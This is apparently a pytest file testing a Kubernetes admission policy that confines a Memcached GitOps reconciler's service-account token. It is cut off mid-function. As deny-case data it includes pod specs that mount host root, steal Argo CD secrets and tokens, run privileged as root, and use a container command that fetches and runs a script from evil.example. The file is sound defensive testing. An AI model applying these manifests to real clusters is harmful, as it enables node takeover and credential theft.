"""The ValidatingAdmissionPolicy of kustomize/admission-policy, its CEL evaluated here by cel-python
(the same language the API server runs) over the writes the reconciler makes and the writes a
stolen token would try. tests/real_cluster/test_reconciler_real_cluster.py runs the same policy on a real
kube-apiserver, which is the judge; these cases say which rule is meant to let what through.

How the API server runs a policy (Kubernetes docs, "Validating Admission Policy"): the request must
match matchConstraints and every matchCondition, or the policy does not apply; then the variables
are computed in order, and each validation that is false denies with its message."""

from __future__ import annotations

import copy
import functools
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from memcached_gitops.foundation.yamlreader import iter_documents
from memcached_gitops.render import render

from tests.conftest import REPO
from tests.support.go_operator import operator_sdk_labels
from tests.upstream import needs_upstream

celpy = pytest.importorskip("celpy", reason="cel-python is in the test extra")
from celpy.adapter import json_to_cel  # noqa: E402

POLICY_FILE = REPO / "kustomize/admission-policy/policy.yaml"


def _reconcilers_user() -> str:
    """The user the reconciler's token authenticates as: the base's ServiceAccount in the base's
    namespace (kustomize/base), so a renamed ServiceAccount is a policy that no longer applies to it."""
    import yaml

    base = REPO / "kustomize/base"
    namespace = yaml.safe_load((base / "kustomization.yaml").read_text())["namespace"]
    name = yaml.safe_load((base / "serviceaccount.yaml").read_text())["metadata"]["name"]
    return f"system:serviceaccount:{namespace}:{name}"


OURS = _reconcilers_user()
CR = {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached",
      "metadata": {"name": "cache", "namespace": "shop", "uid": "0b7f"}, "spec": {"size": 2}}
OWNER = {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "uid": "0b7f",
         "controller": True, "blockOwnerDeletion": True}
RESOURCES = {"Deployment": ("apps", "deployments"), "Service": ("", "services"), "PodDisruptionBudget": ("policy", "poddisruptionbudgets"),
             "Event": ("", "events")}


def policy() -> dict[str, Any]:
    [vap] = [d.value for d in iter_documents(POLICY_FILE.read_text()) if d.value["kind"] == "ValidatingAdmissionPolicy"]
    return vap


def _join(items: Any, separator: Any = "") -> Any:
    """``list.join(separator)`` of the API server's CEL (cel-go's strings extension, which
    k8s.io/apiserver/pkg/cel/environment/base.go enables); cel-python has no such function."""
    return celpy.celtypes.StringType(str(separator).join(str(i) for i in items))


@functools.cache
def _program(expression: str) -> Any:
    env = celpy.Environment()
    return env.program(env.compile(expression), functions={"join": _join})


def evaluate(expression: str, activation: dict[str, Any]) -> Any:
    return _program(expression).evaluate(activation)


def admit(operation: str, obj: dict | None, old: dict | None = None, user: str = OURS, subresource: str = "",
          vap: dict[str, Any] | None = None) -> str | None:
    """None when the write is let through, else the denial's message (of ``vap``, else the shipped policy)."""
    spec = (vap or policy())["spec"]
    target = obj or old
    assert target is not None
    group, resource = RESOURCES[target["kind"]]
    if target["kind"] == "Event" and target["apiVersion"].startswith("events.k8s.io/"):
        group = "events.k8s.io"
    rules = spec["matchConstraints"]["resourceRules"]
    full = resource + (f"/{subresource}" if subresource else "")
    if not any(group in r["apiGroups"] and full in r["resources"] and operation in r["operations"] for r in rules):
        return None
    request = {"operation": operation, "userInfo": {"username": user}, "namespace": target["metadata"].get("namespace", ""),
               "name": target["metadata"]["name"], "resource": {"group": group, "resource": resource}, "subResource": subresource}
    activation: dict[str, Any] = {"request": json_to_cel(request), "object": json_to_cel(obj), "oldObject": json_to_cel(old)}
    if not all(evaluate(c["expression"], activation) for c in spec.get("matchConditions", [])):
        return None
    variables: dict[Any, Any] = {}
    for v in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(variables)  # CEL values already: json_to_cel makes bools ints
        variables[celpy.celtypes.StringType(v["name"])] = evaluate(v["expression"], activation)
    activation["variables"] = celpy.celtypes.MapType(variables)
    for check in spec["validations"]:
        result = evaluate(check["expression"], activation)
        assert not isinstance(result, Exception), (check["expression"], result)
        if not result:
            return str(evaluate(check["messageExpression"], activation)) if "messageExpression" in check else check["message"]
    return None


PODS = ("memcached-gitops writes only Deployments whose Pods are as it renders them (Pod Security restricted, no "
        "ServiceAccount but the default, no token, volume, Secret or host access, allowed images); broken: ")
NEW = "memcached-gitops creates only objects labelled app.kubernetes.io/managed-by=memcached-gitops and owned by a Memcached"
KEPT = ("memcached-gitops keeps its label app.kubernetes.io/managed-by=memcached-gitops, its instance label and its "
        "Memcached ownerReference on what it changes, and adds no other owner")
SERVICES = ("memcached-gitops writes only headless ClusterIP Services (clusterIP None) with no externalIPs or node ports, "
            "selecting their Memcached's Pods by its app.kubernetes.io/instance label")
BUDGETS = ("memcached-gitops writes only PodDisruptionBudgets selecting their Memcached's Pods by its "
           "app.kubernetes.io/instance label and letting at least one go (maxUnavailable, never 0)")
EVENTS = "memcached-gitops only creates core/v1 Events about a Memcached, in the Memcached's namespace"
SELECTOR = "memcached-gitops creates a Deployment only under its Memcached's name, selecting that Memcached's Pods"


def owned(obj: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(obj)
    out["metadata"]["ownerReferences"] = [dict(OWNER)]
    return out


def rendered(kind: str = "Deployment", owner: bool = True, spec: dict[str, Any] | None = None) -> dict[str, Any]:
    cr = copy.deepcopy(CR)
    cr["spec"].update(spec or {})
    [obj] = [o for o in render(cr) if o["kind"] == kind]
    return owned(obj) if owner else obj


def pod(obj: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = obj["spec"]["template"]["spec"]
    return spec


def foreign() -> dict[str, Any]:
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "payments", "namespace": "shop", "labels": {"app": "pay"}},
            "spec": {"selector": {"matchLabels": {"app": "pay"}}, "template": {"metadata": {"labels": {"app": "pay"}},
                     "spec": {"containers": [{"name": "pay", "image": "pay:1"}]}}}}


def go_operators() -> dict[str, Any]:
    """The Deployment operator-sdk's memcached-operator made (tests/reconciler/decisions/test_adopt_go_operator.py)."""
    obj = foreign()
    obj["metadata"].update(name="cache", labels=operator_sdk_labels(), ownerReferences=[OWNER])
    return obj


# -- every shape of our rendering passes ---------------------------------------------------------

#: The CR fields that change what is rendered (docs/reference/crd.md), alone and together.
SHAPES: dict[str, dict[str, Any]] = {
    "seed": {},
    "one-pod": {"size": 1},
    "port-9150": {"containerPort": 9150, "metrics": {"enabled": True}},
    "resources": {"resources": {"limits": {"memory": "1Gi", "cpu": "2"}, "requests": {"memory": "512Mi", "cpu": "500m"}},
                  "threads": 4, "maxConnections": 4096},
    "placement": {"nodeSelector": {"disk": "ssd"}, "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "cache",
                                                                    "effect": "NoSchedule"}],
                  "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                      {"matchExpressions": [{"key": "disk", "operator": "In", "values": ["ssd"]}]}]}}},
                  "priorityClassName": "high"},
    "exporter": {"metrics": {"enabled": True}},
    "pod-monitor": {"metrics": {"enabled": True, "image": "quay.io/prometheus/memcached-exporter:v0.15.2",
                                "podMonitor": {"enabled": True, "labels": {"release": "prom"}}}},
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_every_shape_of_our_rendering_is_created_corrected_and_deleted(shape: str) -> None:
    cr = copy.deepcopy(CR)
    cr["spec"].update(SHAPES[shape])
    for obj in render(cr):
        if obj["kind"] not in RESOURCES:
            continue  # the PodMonitor is applied by GitOps, never by the reconciler
        mine = owned(obj)
        assert admit("CREATE", mine) is None, (obj["kind"], admit("CREATE", mine))
        drifted = copy.deepcopy(mine)
        drifted["metadata"]["labels"]["team"] = "a person's"
        assert admit("UPDATE", mine, drifted) is None
        assert admit("DELETE", None, mine) is None


def test_the_reconcilers_events_pass() -> None:
    assert admit("CREATE", event()) is None


@needs_upstream  # the operator-sdk controller's labels, read from its source in ../shared/upstream
def test_the_go_operators_deployment_taken_over_and_its_new_companions_pass() -> None:
    from memcached_gitops.reconciler.decisions.companions import selecting
    from memcached_gitops.reconciler.decisions.selectors import keep_live_selector

    for labels in (operator_sdk_labels(), {"app.kubernetes.io/name": "project"}):
        theirs = go_operators()
        theirs["metadata"]["labels"] = labels
        theirs["spec"]["selector"] = {"matchLabels": labels}
        taken = owned(keep_live_selector(rendered(owner=False), theirs))
        assert admit("UPDATE", taken, theirs) is None, "taken over in place"
        for kind in ("Service", "PodDisruptionBudget"):
            companion = owned(selecting(rendered(kind, owner=False), theirs["spec"]["selector"]))
            assert admit("CREATE", companion) is None, (kind, labels)


def test_argo_cds_copy_of_our_rendering_is_adopted() -> None:
    argo = rendered(owner=False)  # applied by Argo CD from our rendering: our label, no ownerReference
    assert admit("UPDATE", argo, argo) is None, "--adopt's first write (a removal patch) comes before the ownerReference"
    assert admit("UPDATE", rendered(), argo) is None, "then the apply gives it the ownerReference"


def test_a_persons_edit_being_corrected_does_not_block_the_correction() -> None:
    """On UPDATE a rule the object already broke (a person's edit) does not stop the write; a new one does."""
    edited = rendered()
    pod(edited)["hostNetwork"] = True
    pod(edited)["containers"].append({"name": "debug", "image": "busybox:1", "securityContext": {"privileged": True}})
    half = copy.deepcopy(edited)
    pod(half)["containers"].pop()  # the removal patch (apply.py) first, then the apply
    assert admit("UPDATE", half, edited) is None
    assert admit("UPDATE", rendered(), half) is None
    worse = copy.deepcopy(half)
    pod(worse)["hostPID"] = True
    assert admit("UPDATE", worse, half) == PODS + "hostPID", "hostNetwork kept, hostPID added"


def test_a_persons_volume_image_or_account_may_stay_but_never_become_another() -> None:
    """Item by item: what the object already had may stay; it cannot be turned into something else."""
    edited = rendered()
    pod(edited)["volumes"] = [{"name": "scratch", "emptyDir": {}}]
    pod(edited)["serviceAccountName"] = "cache-reader"
    pod(edited)["containers"][0]["image"] = "registry.example.com/memcached:1"
    assert admit("UPDATE", edited, edited) is None, "kept as they were"
    for change in ({"volumes": [{"name": "scratch", "hostPath": {"path": "/"}}]}, {"serviceAccountName": "argocd-application-controller"}):
        worse = copy.deepcopy(edited)
        pod(worse).update(change)
        assert admit("UPDATE", worse, edited) == PODS + next(iter(change)).replace("Name", ""), change
    worse = copy.deepcopy(edited)
    pod(worse)["containers"][0]["image"] = "evil.example/miner:1"
    assert admit("UPDATE", worse, edited) == PODS + "images"


# -- rule by rule ---------------------------------------------------------------------------------

def event(**changes: Any) -> dict[str, Any]:
    body = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "cache.17a", "namespace": "shop"},
            "involvedObject": {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "namespace": "shop",
                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal",
            "source": {"component": "memcached-gitops"}, "reportingComponent": "memcached-gitops"}
    for key, value in changes.items():
        if key == "namespace":
            body["metadata"]["namespace"] = value
        else:
            body["involvedObject"][key] = value
    return body


def _container(change: dict[str, Any]) -> Any:
    def apply(obj: dict[str, Any]) -> None:
        pod(obj)["containers"][0].update(copy.deepcopy(change))
    return apply


def _security(change: dict[str, Any]) -> Any:
    def apply(obj: dict[str, Any]) -> None:
        pod(obj)["containers"][0]["securityContext"].update(copy.deepcopy(change))
    return apply


def _pod(change: dict[str, Any]) -> Any:
    def apply(obj: dict[str, Any]) -> None:
        pod(obj).update(copy.deepcopy(change))
    return apply


def _drop(*keys: str) -> Any:
    def apply(obj: dict[str, Any]) -> None:
        for key in keys:
            *path, last = key.split(".")
            node = pod(obj)
            for step in path:
                node = node[int(step)] if step.isdigit() else node[step]
            del node[last]
    return apply


#: (rule, how to break it): each breaks one rule of podRules, and only that one.
POD_RULES = [
    ("serviceAccount", _pod({"serviceAccountName": "argocd-application-controller"})),
    ("serviceAccount", _pod({"serviceAccount": "builder"})),
    ("token", _pod({"automountServiceAccountToken": True})),
    ("token", _drop("automountServiceAccountToken")),
    ("hostNetwork", _pod({"hostNetwork": True})),
    ("hostPID", _pod({"hostPID": True})),
    ("hostIPC", _pod({"hostIPC": True})),
    ("volumes", _pod({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
    ("volumes", _pod({"volumes": [{"name": "s", "secret": {"secretName": "argocd-secret"}}]})),
    ("volumes", _pod({"volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]})),
    ("volumes", _pod({"volumes": [{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]})),
    ("volumes", _pod({"volumes": [{"name": "e", "emptyDir": {}}]})),
    ("containersOnly", _pod({"initContainers": [{"name": "i", "image": "memcached:1"}]})),
    ("node", _pod({"nodeName": "control-plane-1"})),
    ("node", _pod({"runtimeClassName": "unconfined"})),
    ("node", _pod({"resourceClaims": [{"name": "gpu", "resourceClaimName": "gpu"}]})),
    ("node", _pod({"priorityClassName": "system-node-critical"})),
    ("node", _pod({"priorityClassName": "system-cluster-critical"})),
    ("podLabels", lambda o: o["spec"]["template"]["metadata"]["labels"].update({"app.kubernetes.io/instance": "payments"})),
    ("images", _container({"image": "evil.example/memcached:1"})),
    ("images", _container({"image": "memcachedevil:1"})),
    ("command", _container({"command": ["sh", "-c", "wget evil.example/x | sh"]})),
    ("command", lambda o: pod(o)["containers"][1].update(args=["sh", "-c", "id"])),
    ("command", _container({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}})),
    ("command", _container({"livenessProbe": {"exec": {"command": ["sh", "-c", "id"]}}})),
    ("command", _container({"startupProbe": {"exec": {"command": ["id"]}}})),
    ("readOnlyRoot", _security({"readOnlyRootFilesystem": False})),
    ("privileged", _security({"privileged": True})),
    ("capabilities", _security({"capabilities": {"add": ["SYS_ADMIN"], "drop": ["ALL"]}})),
    ("capabilities", _security({"capabilities": {"drop": ["NET_RAW"]}})),
    ("privilegeEscalation", _security({"allowPrivilegeEscalation": True})),
    ("privilegeEscalation", _drop("containers.0.securityContext.allowPrivilegeEscalation")),
    ("nonRoot", _security({"runAsNonRoot": False})),
    ("nonRoot", _security({"runAsUser": 0})),
    ("nonRoot", _pod({"securityContext": {"runAsUser": 0, "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}})),
    ("seccomp", _security({"seccompProfile": {"type": "Unconfined"}})),
    ("seccomp", _drop("securityContext.seccompProfile")),
    ("securityContext", _pod({"securityContext": {"runAsUser": 1001, "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"},
                                                  "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "0"}]}})),
    ("securityContext", _security({"seLinuxOptions": {"type": "spc_t"}})),
    ("securityContext", _security({"appArmorProfile": {"type": "Unconfined"}})),
    ("securityContext", _security({"procMount": "Unmasked"})),
    ("securityContext", _security({"windowsOptions": {"hostProcess": True}})),
    ("hostPorts", _container({"ports": [{"containerPort": 11211, "hostPort": 11211, "name": "memcached", "protocol": "TCP"}]})),
    ("secretEnv", _container({"env": [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "argocd-secret", "key": "k"}}}]})),
    ("secretEnv", _container({"envFrom": [{"secretRef": {"name": "argocd-secret"}}]})),
]


@pytest.mark.parametrize("rule,breaking", POD_RULES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(POD_RULES)])
def test_each_pod_rule_refuses_on_create_and_on_update(rule: str, breaking: Any) -> None:
    obj = rendered(spec={"metrics": {"enabled": True}})
    breaking(obj)
    assert admit("CREATE", obj) == PODS + rule
    assert admit("UPDATE", obj, rendered(spec={"metrics": {"enabled": True}})) == PODS + rule


def test_the_exporter_sidecar_is_held_to_the_same_rules() -> None:
    obj = rendered(spec={"metrics": {"enabled": True, "image": "evil.example/exporter:1"}})
    assert admit("CREATE", obj) == PODS + "images"


def test_a_digest_is_an_allowed_image_and_a_second_rule_is_named_too() -> None:
    obj = rendered()
    pod(obj)["containers"][0]["image"] = "memcached@sha256:" + "0" * 64
    assert admit("CREATE", obj) is None
    pod(obj)["hostPID"] = True
    pod(obj)["automountServiceAccountToken"] = True
    assert admit("CREATE", obj) in (PODS + "token, hostPID", PODS + "hostPID, token")


def test_a_write_the_policy_cannot_judge_is_refused_and_every_refusal_denies() -> None:
    """The policy fails closed, as the API server reads it: a request whose evaluation errors (a
    field the expressions read that the object lacks, a cost budget overrun by a huge object, a
    rule an installer's patch broke) is refused (failurePolicy Fail, not Ignore), and the binding
    turns every failed validation into a denial (Deny, not Warn or Audit alone). Otherwise a stolen
    token writes anything whose evaluation it can make fail, and these cases' verdicts are advice."""
    import yaml

    assert policy()["spec"]["failurePolicy"] == "Fail"
    [binding] = [d.value for d in iter_documents(POLICY_FILE.read_text()) if d.value["kind"] == "ValidatingAdmissionPolicyBinding"]
    assert binding["spec"]["policyName"] == policy()["metadata"]["name"]
    assert "Deny" in binding["spec"]["validationActions"]
    built = yaml.safe_load((REPO / "kustomize/admission-policy/kustomization.yaml").read_text())
    assert "policy.yaml" in built["resources"], "the install ships this policy and its binding"


def test_nothing_is_written_in_the_system_namespaces() -> None:
    for namespace in ("kube-system", "kube-public", "kube-node-lease"):
        obj = rendered()
        obj["metadata"]["namespace"] = namespace
        assert admit("CREATE", obj) == f"memcached-gitops writes no object in the namespace {namespace}"
        assert admit("CREATE", event(namespace=namespace)) is not None


@pytest.mark.parametrize("case", ["foreign", "unowned", "owned-by-another-kind", "unlabelled", "not-controller", "second-owner"])
def test_a_new_object_must_be_labelled_ours_and_owned_by_a_memcached(case: str) -> None:
    obj = {"foreign": foreign, "unowned": lambda: rendered(owner=False)}.get(case, rendered)()
    if case == "owned-by-another-kind":
        obj["metadata"]["ownerReferences"] = [{**OWNER, "kind": "ReplicaSet", "apiVersion": "apps/v1"}]
    if case == "unlabelled":
        del obj["metadata"]["labels"]["app.kubernetes.io/managed-by"]
    if case == "not-controller":
        obj["metadata"]["ownerReferences"] = [{**OWNER, "controller": False}]
    if case == "second-owner":
        obj["metadata"]["ownerReferences"].append({"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "1"})
    assert admit("CREATE", obj) == NEW


def test_a_new_deployment_is_named_and_selects_as_rendered() -> None:
    renamed = rendered()
    renamed["metadata"]["name"] = "payments"
    assert admit("CREATE", renamed) == SELECTOR
    wide = rendered()
    wide["spec"]["selector"] = {"matchLabels": {"app.kubernetes.io/name": "memcached"}}
    assert admit("CREATE", wide) == SELECTOR


@pytest.mark.parametrize("change", ["label", "instance", "owner", "owner-swapped", "second-owner"])
def test_an_update_keeps_the_label_the_instance_and_the_owner(change: str) -> None:
    before = rendered()
    after = copy.deepcopy(before)
    if change == "label":
        del after["metadata"]["labels"]["app.kubernetes.io/managed-by"]
    elif change == "instance":
        after["metadata"]["labels"]["app.kubernetes.io/instance"] = "payments"
    elif change == "owner":
        del after["metadata"]["ownerReferences"]
    elif change == "owner-swapped":
        after["metadata"]["ownerReferences"] = [{**OWNER, "uid": "another"}]
    else:
        after["metadata"]["ownerReferences"].append({"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "1"})
    assert admit("UPDATE", after, before) == KEPT


def test_a_foreign_object_cannot_be_changed_deleted_or_relabelled_into_ours() -> None:
    message = ("memcached-gitops changes only its own objects (labelled app.kubernetes.io/managed-by=memcached-gitops, "
               "or controlled by a Memcached); deployments payments is neither")
    relabelled = foreign()
    relabelled["metadata"]["labels"]["app.kubernetes.io/managed-by"] = "memcached-gitops"
    relabelled["metadata"]["ownerReferences"] = [OWNER]
    assert admit("UPDATE", relabelled, foreign()) == message
    assert admit("DELETE", None, foreign()) == message
    not_controller = foreign()
    not_controller["metadata"]["ownerReferences"] = [{**OWNER, "controller": False}]
    assert admit("UPDATE", not_controller, not_controller) is not None, "a non-controller reference makes nothing ours"


#: Each valid for the API server (a real one validates before admission: a headless Service cannot be
#: NodePort, a nodePort needs that type), so that on a real cluster the policy is what refuses them.
SERVICE_ESCAPES = {
    "LoadBalancer": {"type": "LoadBalancer", "clusterIP": None},
    "NodePort": {"type": "NodePort", "clusterIP": None},
    "nodePort": {"type": "NodePort", "clusterIP": None,
                 "ports": [{"name": "memcached", "port": 11211, "protocol": "TCP", "targetPort": "memcached", "nodePort": 30001}]},
    "externalIPs": {"clusterIP": None, "externalIPs": ["203.0.113.7"]},
    "ExternalName": {"type": "ExternalName", "externalName": "kubernetes.default.svc", "clusterIP": None},
    "foreign-selector": {"selector": {"app": "pay"}},
    "another-instance": {"selector": {"app.kubernetes.io/name": "memcached", "app.kubernetes.io/instance": "payments"}},
    "no-selector": {"selector": None},
    "kube-dns-address": {"clusterIP": "10.96.0.10"},
    "any-address": {"clusterIP": None},
}


@pytest.mark.parametrize("escape", sorted(SERVICE_ESCAPES))
def test_a_service_is_cluster_internal_and_selects_its_owners_pods(escape: str) -> None:
    obj = rendered("Service")
    obj["spec"].update(SERVICE_ESCAPES[escape])
    obj["spec"] = {k: v for k, v in obj["spec"].items() if v is not None}
    assert admit("CREATE", obj) == SERVICES
    assert admit("UPDATE", obj, rendered("Service")) == SERVICES


@pytest.mark.parametrize("spec", [{"maxUnavailable": 0}, {"maxUnavailable": "0%"}, {"minAvailable": "100%", "maxUnavailable": None},
                                  {"selector": {"matchLabels": {"app": "pay"}}},
                                  {"selector": {"matchExpressions": [{"key": "app", "operator": "Exists"}]}}])
def test_a_budget_selects_its_owners_pods_and_lets_one_go(spec: dict[str, Any]) -> None:
    obj = rendered("PodDisruptionBudget")
    obj["spec"].update(spec)
    obj["spec"] = {k: v for k, v in obj["spec"].items() if v is not None}
    assert admit("CREATE", obj) == BUDGETS
    assert admit("UPDATE", obj, rendered("PodDisruptionBudget")) == BUDGETS


@pytest.mark.parametrize("changes", [{"namespace": "default"}, {"kind": "Pod"}, {"apiVersion": "v1"}, {"namespace": ""}])
def test_an_event_is_about_a_memcached_in_its_own_namespace(changes: dict[str, Any]) -> None:
    assert admit("CREATE", event(**changes)) == EVENTS


def test_an_event_is_never_changed_deleted_or_written_through_events_k8s_io() -> None:
    assert admit("UPDATE", event(), event()) == EVENTS
    assert admit("DELETE", None, event()) == EVENTS
    assert admit("CREATE", {**event(), "apiVersion": "events.k8s.io/v1"}) == EVENTS


def test_scaling_through_the_scale_subresource_is_refused_and_other_users_are_not_concerned() -> None:
    # a Scale carries no labels: the reconciler never scales, so its token cannot either
    scale = {"apiVersion": "autoscaling/v1", "kind": "Deployment", "metadata": {"name": "cache", "namespace": "shop"},
             "spec": {"replicas": 0}}
    assert admit("UPDATE", scale, scale, subresource="scale") == "memcached-gitops writes no subresource: deployments/scale"
    assert admit("UPDATE", rendered(), rendered(), subresource="status") is not None
    assert admit("CREATE", foreign(), user="system:serviceaccount:argocd:argocd-application-controller") is None
    assert admit("CREATE", foreign(), user="system:serviceaccount:memcached-gitops:memcached-gitops-other") is None
    assert admit("CREATE", foreign(), user="system:serviceaccount:team-a:memcached-gitops") is not None, "any namespace's"


# -- the attacks of issue 47, each as a stolen token would send it ---------------------------------

def test_the_reviews_escapes_are_all_refused() -> None:
    """Each write the security review made with the reconciler's token (issue 47), refused."""
    confined = rendered()
    rooted = copy.deepcopy(confined)  # kubectl patch of a confined Deployment: root on a node
    pod(rooted).update(hostNetwork=True, hostPID=True, hostIPC=True, automountServiceAccountToken=True,
                       volumes=[{"name": "root", "hostPath": {"path": "/"}}])
    assert admit("UPDATE", rooted, confined) is not None
    orphan = copy.deepcopy(confined)  # unlabelled and unowned: the garbage collector never removes it
    del orphan["metadata"]["labels"]["app.kubernetes.io/managed-by"]
    del orphan["metadata"]["ownerReferences"]
    assert admit("UPDATE", orphan, confined) == KEPT
    stealer = rendered()  # argocd's account, its token, its Secret, root and SYS_ADMIN
    stealer["metadata"]["namespace"] = "argocd"
    pod(stealer).update(serviceAccountName="argocd-application-controller", automountServiceAccountToken=True,
                        volumes=[{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}},
                                 {"name": "s", "secret": {"secretName": "argocd-secret"}}])
    pod(stealer)["securityContext"] = {"runAsUser": 0}
    pod(stealer)["containers"][0]["securityContext"] = {"runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN"]}, "privileged": True}
    pod(stealer)["containers"][0]["envFrom"] = [{"secretRef": {"name": "argocd-secret"}}]
    refused = admit("CREATE", stealer)
    assert refused is not None and refused.startswith(PODS)
    for rule in ("serviceAccount", "token", "volumes", "privileged", "capabilities", "nonRoot", "secretEnv", "seccomp"):
        assert rule in refused.removeprefix(PODS).split(", "), rule
    for escape in SERVICE_ESCAPES.values():
        service = rendered("Service")
        service["spec"].update(escape)
        service["spec"] = {k: v for k, v in service["spec"].items() if v is not None}
        assert admit("CREATE", service) == SERVICES
    blocker = rendered("PodDisruptionBudget")
    blocker["spec"].update(maxUnavailable=0, selector={"matchLabels": {"app": "pay"}})
    assert admit("CREATE", blocker) == BUDGETS
    assert admit("CREATE", event(namespace="kube-system")) is not None


def test_the_rest_of_the_writes_a_stolen_token_could_try_are_refused() -> None:
    """Beyond the review: taking over a foreign object by any route, and the subresources."""
    theirs = foreign()
    assert admit("DELETE", None, theirs) is not None
    grabbed = copy.deepcopy(theirs)
    grabbed["metadata"]["ownerReferences"] = [OWNER]
    assert admit("UPDATE", grabbed, theirs) is not None, "an ownerReference added to a foreign Deployment makes it no ours"
    ours_to_foreign = rendered("Service")
    ours_to_foreign["spec"]["selector"] = {"app": "pay", "app.kubernetes.io/instance": "cache"}
    assert admit("UPDATE", ours_to_foreign, rendered("Service")) is None, "narrower than our Pods: selects nothing foreign"
    status = rendered()
    assert admit("UPDATE", status, status, subresource="status") is not None


# -- the installer's image list -------------------------------------------------------------------

def test_an_installers_image_list_set_by_the_documented_kustomize_patch_is_obeyed(tmp_path: Any) -> None:
    """docs/security.md's patch, built by the real kustomize (kubectl kustomize), replaces the list."""
    import shutil
    import subprocess

    from tests.support.kustomize import KUBECTL

    shutil.copytree(REPO / "kustomize/admission-policy", tmp_path / "admission-policy")
    (tmp_path / "installer").mkdir()
    (tmp_path / "installer/kustomization.yaml").write_text(
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../admission-policy\n" + _doc_patch())
    built = subprocess.run([KUBECTL, "kustomize", str(tmp_path / "installer")], capture_output=True, text=True, check=True).stdout
    [vap] = [d.value for d in iter_documents(built) if d.value["kind"] == "ValidatingAdmissionPolicy"]
    mirrored = rendered()
    pod(mirrored)["containers"][0]["image"] = "registry.example.com/mirror/memcached:1.6.26-alpine3.19"
    assert admit("CREATE", mirrored) == PODS + "images"
    assert admit("CREATE", mirrored, vap=vap) is None
    assert admit("CREATE", rendered(), vap=vap) == PODS + "images", "the list is replaced, not added to"


def _doc_patch() -> str:
    """The ``patches:`` block that docs/security.md shows for the image list."""
    text = (REPO / "docs/security.md").read_text()
    start = text.index("patches:\n", text.index("<!-- image-list-patch -->"))
    return text[start:text.index("```", start)]


# -- the second review's attacks (issue 47): each admitted by the policy before its fix ------------

@pytest.mark.parametrize("image", ["memcached:5000/evil/shell:latest", "memcached:443/attacker/img", "memcached@evil.example/x",
                                   "docker.io/library/memcached:5000/x", "memcached:1.6:evil", "memcached"])
def test_an_allowed_repository_followed_by_a_registry_port_or_a_path_is_refused(image: str) -> None:
    """``memcached:5000/evil/shell`` is the registry host ``memcached``, port 5000: not memcached with a tag."""
    obj = rendered()
    pod(obj)["containers"][0]["image"] = image
    assert admit("CREATE", obj) == PODS + "images"
    assert admit("UPDATE", obj, rendered()) == PODS + "images"


@pytest.mark.parametrize("image", ["memcached:1.6.26-alpine3.19", "memcached@sha256:" + "a" * 64,
                                   "memcached:1.6@sha256:" + "a" * 64, "quay.io/prometheus/memcached-exporter:v0.15.2"])
def test_a_tag_a_digest_or_both_are_allowed(image: str) -> None:
    obj = rendered()
    pod(obj)["containers"][0]["image"] = image
    assert admit("CREATE", obj) is None


@pytest.mark.parametrize("version", ["cache.example.com/v999", "cache.example.com/v1alpha1x", "cache.example.com/"])
def test_an_owner_reference_names_the_served_version_exactly(version: str) -> None:
    """The garbage collector cannot map cache.example.com/v999: an object owned so is never removed."""
    for kind in ("Deployment", "Service", "PodDisruptionBudget"):
        obj = rendered(kind)
        obj["metadata"]["ownerReferences"][0]["apiVersion"] = version
        assert admit("CREATE", obj) == NEW, kind
        assert admit("UPDATE", obj, rendered(kind)) == KEPT, kind
    assert admit("CREATE", event(apiVersion=version)) == EVENTS


def _retarget(obj: dict[str, Any], instance: str = "payments") -> dict[str, Any]:
    """The owner's name (never checked against its uid) and every instance label set to another instance."""
    out = copy.deepcopy(obj)
    out["metadata"]["ownerReferences"][0]["name"] = instance
    out["metadata"]["labels"]["app.kubernetes.io/instance"] = instance
    selector = out["spec"]["selector"]
    (selector if out["kind"] == "Service" else selector["matchLabels"])["app.kubernetes.io/instance"] = instance
    return out


NAMED = "memcached-gitops creates a Service or PodDisruptionBudget only under its Memcached's name followed by -memcached"


@pytest.mark.parametrize("kind", ["Service", "PodDisruptionBudget"])
def test_an_owner_reference_renamed_with_a_real_uid_selects_no_other_instance(kind: str) -> None:
    """A token that lists Memcacheds sets ownerReferences[0] = {name: payments, uid: cache's}: on UPDATE
    the owner's name cannot change, on CREATE the object is named after it (so payments' own is taken)."""
    ours = rendered(kind)
    assert admit("UPDATE", _retarget(ours), ours) == KEPT
    assert admit("CREATE", _retarget(ours)) == NAMED
    renamed = _retarget(ours)
    renamed["metadata"]["name"] = "payments-memcached"
    assert admit("CREATE", renamed) is None, "a Memcached named payments would own this very name: AlreadyExists"


@pytest.mark.parametrize("figure", ["00%", "000%", "0.0%", "-1%", "1.5%", 0, -1, "1"])
def test_a_budget_lets_one_pod_go_whatever_the_spelling_of_zero(figure: Any) -> None:
    obj = rendered("PodDisruptionBudget")
    obj["spec"]["maxUnavailable"] = figure
    assert admit("CREATE", obj) == BUDGETS
    for fine in (1, 3, "1%", "50%", "100%"):
        obj["spec"]["maxUnavailable"] = fine
        assert admit("CREATE", obj) is None, fine


def _edited(change: Any) -> dict[str, Any]:
